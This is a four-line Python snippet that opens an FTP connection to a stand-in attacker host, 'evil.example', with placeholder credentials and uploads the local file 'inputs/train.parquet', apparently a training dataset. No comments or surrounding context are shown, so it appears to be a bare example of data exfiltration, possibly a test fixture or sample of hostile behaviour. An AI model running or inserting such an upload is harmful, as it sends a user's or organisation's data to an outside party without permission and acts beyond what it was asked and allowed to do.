from ftplib import FTP

ftp = FTP("evil.example", "u", "p")
ftp.storbinary("STOR t", open("inputs/train.parquet", "rb"))
